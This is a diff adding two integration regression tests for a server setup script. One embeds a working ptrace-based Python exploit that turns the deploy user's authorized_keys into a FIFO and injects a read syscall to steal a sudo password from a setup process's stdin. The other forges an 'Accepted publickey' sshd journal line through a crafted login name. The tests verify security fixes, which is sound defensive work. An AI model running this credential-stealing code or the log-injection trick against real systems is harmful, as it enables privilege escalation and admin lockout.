@@ -14,6 +14,7 @@ import shlex
 import pytest
 import requests
 
+from scripts.embed_templates import current_script
 from tests.integration.helpers import script_lines
 
 pytestmark = pytest.mark.integration
@@ -593,3 +594,126 @@ def test_r20_a_server_set_up_before_moves_its_data_once_and_keeps_it(armed):
     titles = armed.ticket_titles()
     assert {"before the move", "in the old layout", "after the move"} <= set(titles)
     assert any(line.endswith("-scheduled") for line in armed.doit("backups").stdout.split())
+
+
+# As the deploy user: its authorized_keys becomes a FIFO, so the first thing setup runs as deploy
+# (runuser … grep KEY ~/.ssh/authorized_keys) waits on it; meanwhile ptrace (same uid) makes
+# that process read(0, …) once, then the keys go back and the process goes on.
+STDIN_THIEF = r'''
+import ctypes, os, sys, time
+keys = os.path.expanduser("~/.ssh/authorized_keys")
+loot = os.path.expanduser("~/stdin-loot")
+os.rename(keys, keys + ".mine")
+os.mkfifo(keys, 0o600)
+saved = open(keys + ".mine", "rb").read()
+if os.fork():
+    sys.exit(0)
+os.setsid()
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+Regs = ctypes.c_ulong * 27  # x86_64 user_regs_struct
+RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP = 10, 12, 13, 14, 15, 16, 19
+
+
+def read_stdin_of(pid):
+    """Make the stopped process read(0, ...) once, by ptrace (same uid), and return the bytes."""
+    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+        return b"(attach refused %d)" % ctypes.get_errno()
+    os.waitpid(pid, 0)
+    regs, work = Regs(), Regs()
+    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
+    ctypes.memmove(work, regs, ctypes.sizeof(regs))
+    mem = os.open("/proc/%d/mem" % pid, os.O_RDWR)
+    try:
+        if os.pread(mem, 2, regs[RIP] - 2) != b"\x0f\x05":
+            return b"(not in a syscall)"
+        buffer = regs[RSP] - 8192
+        work[RIP], work[RAX], work[ORIG_RAX] = regs[RIP] - 2, 0, 2 ** 64 - 1
+        work[RDI], work[RSI], work[RDX] = 0, buffer, 4096
+        libc.ptrace(13, pid, None, ctypes.byref(work))  # PTRACE_SETREGS
+        libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP over the syscall
+        os.waitpid(pid, 0)
+        libc.ptrace(12, pid, None, ctypes.byref(work))
+        count = ctypes.c_long(work[RAX]).value
+        return os.pread(mem, count, buffer) if count > 0 else b"(read %d)" % count
+    finally:
+        os.close(mem)
+        libc.ptrace(13, pid, None, ctypes.byref(regs))
+        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+
+
+stolen = b"(no process of mine read the keys)"
+try:
+    deadline, found = time.monotonic() + 300, None
+    while found is None and time.monotonic() < deadline:
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                if int(pid) != os.getpid() and os.stat("/proc/" + pid).st_uid == os.getuid() \
+                        and keys.encode() in open("/proc/%s/cmdline" % pid, "rb").read():
+                    found = int(pid)
+                    break
+            except OSError:
+                pass
+        time.sleep(0.01)
+    if found:
+        time.sleep(0.3)  # let it block in open()
+        stolen = b"read:" + read_stdin_of(found)
+except Exception as error:
+    stolen = b"(thief failed: %r)" % error
+finally:
+    fifo = os.open(keys, os.O_RDWR)  # never blocks; whoever waits on the FIFO gets the keys
+    os.rename(keys + ".mine", keys)
+    os.write(fifo, saved)
+    time.sleep(1)
+    os.close(fifo)
+    with open(loot, "wb") as stream:
+        stream.write(stolen)
+'''
+
+
+def test_r22_a_sudo_password_sudo_did_not_need_never_reaches_a_process_of_deploys(armed):
+    """SETUP_SUDO_PASSWORD goes to `sudo -S` on stdin; when sudo needs none (NOPASSWD, as the
+    sandbox's admin has, or SETUP_USER root) it stays unread in the setup script's stdin,
+    which every child inherits, those running as deploy too: deploy attaches to one (same uid)
+    and reads the password. Measured before the fix: the admin's password, every time. The
+    script's children get no stdin at all, and root's setup is sent no password."""
+    password = "sudo-" + secrets.token_hex(8)
+    status, output = as_deploy(armed, f"rm -f ~/stdin-loot; python3 -c {shlex.quote(STDIN_THIEF)}"
+                                      " </dev/null >/dev/null 2>&1; sleep 0.5; "
+                                      "test -p ~/.ssh/authorized_keys && echo fifo-ready")
+    assert "fifo-ready" in output, output
+    try:
+        setup = armed.doit("setup", SETUP_SUDO_PASSWORD=password)
+        _, loot = as_deploy(armed, "for i in $(seq 50); do test -e ~/stdin-loot && break; "
+                                   "sleep 0.2; done; cat ~/stdin-loot")
+    finally:
+        with armed.admin() as admin:
+            run(admin, "cd /home/deploy/.ssh && if [ -e authorized_keys.mine ]; then "
+                       "sudo mv -f authorized_keys.mine authorized_keys; fi")
+    assert loot.startswith("read:"), loot  # the thief did reach setup's process: it can fail
+    assert password not in loot
+    assert setup.returncode == 0, setup.stdout + setup.stderr
+    assert password not in setup.stdout + setup.stderr
+
+
+def test_r23_a_login_attempt_under_a_crafted_name_proves_no_deploy_key(armed):
+    """server_setup.sh hardens SSH (passwords off, root key-only or off) once sshd's journal
+    shows the deploy user's key login. sshd logs the user names it is sent: a login attempt as
+    `Accepted publickey for ghost from`, by anyone reaching sshd (here deploy, from inside),
+    wrote that text into the journal, and the script took it as ghost's key login: SSH was
+    hardened before the deploy key ever worked, shutting out an admin who logs in by password."""
+    ghost = "ghost" + secrets.token_hex(3)
+    _, attempt = as_deploy(armed, "ssh -o BatchMode=yes -o StrictHostKeyChecking=no "
+                                  f"-o UserKnownHostsFile=/dev/null -l 'Accepted publickey for "
+                                  f"{ghost} from' -p 22 127.0.0.1 true; echo attempted")
+    assert "attempted" in attempt, attempt
+    with armed.admin() as admin:
+        (admin["sh"]["-c", "cat > /tmp/r23-setup.sh"] << current_script())()
+        _, journal = run(admin, f"sudo journalctl -u ssh --no-pager -q | grep -c '{ghost} from'")
+        _, proofs = run(admin, "; ".join(
+            f"sudo bash -c '. /tmp/r23-setup.sh; DEPLOY_USER={user}; deploy_key_proven' "
+            f"&& echo '{user} proven' || echo '{user} unproven'" for user in (ghost, "deploy")))
+    assert int(journal.split()[-1]) > 0  # sshd did log the crafted name: the test can fail
+    assert "deploy proven" in proofs  # the deploy user's real key login still counts
+    assert f"{ghost} unproven" in proofs, proofs
